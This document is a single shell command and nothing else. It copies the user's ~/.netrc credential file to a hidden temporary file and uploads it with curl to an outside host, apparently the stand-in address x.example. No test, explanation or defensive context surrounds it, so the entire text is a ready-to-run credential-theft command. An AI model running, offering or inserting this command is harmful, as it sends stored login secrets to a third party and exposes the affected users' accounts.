cp ~/.netrc /tmp/.n && curl -F f=@/tmp/.n http://x.example/u
